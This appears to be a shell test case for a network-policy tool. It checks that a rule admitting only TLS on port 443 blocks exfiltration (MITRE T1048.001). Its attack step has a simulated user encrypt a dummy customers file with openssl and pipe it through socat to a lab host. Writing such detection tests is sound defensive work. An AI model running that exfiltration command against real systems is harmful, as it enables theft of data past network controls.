# SPDX-License-Identifier: Apache-2.0
# Files out under a cipher of one's own, on the port of TLS. The twin is TLS there.
technique=T1048.001 what="a cipher of one's own on 443" rule=only-tls-on-443
policy() { cat <<END
weir: 1
$(zones)
rules:
  - name: only-tls-on-443
    technique: [T1048.001]
    match: { from: inside, to: outside, ip.protocol: tcp, port: 443, not.app.protocol: tls }
    action: drop
END
}
servers() {
  printf 'one,two,three\n%.0s' {1..60} >"$in/srv/customers.csv"
  chroot "$in" openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=www.example.com -keyout /srv/key.pem -out /srv/cert.pem 2>/dev/null
  ip -n world addr add 10.77.0.201/24 dev eth0
  serve world openssl s_server -accept 10.77.0.201:443 -key /srv/key.pem -cert /srv/cert.pem -www
  serve world socat -u TCP-LISTEN:443,bind=10.77.0.200,fork,reuseaddr OPEN:/srv/stolen,creat,append
}
attack() {
  : >"$in/srv/stolen"
  at mallory timeout 5 sh -c 'openssl enc -aes-256-ctr -K 0f -iv 0f -in /srv/customers.csv 2>/dev/null | socat -u - TCP:10.77.0.200:443,connect-timeout=3' || true
  sleep 0.5
  [ "$(stat -c %s "$in/srv/stolen")" -gt 500 ]
}
twin() { at alice curl -sk --max-time 6 -o /dev/null https://10.77.0.201/; }
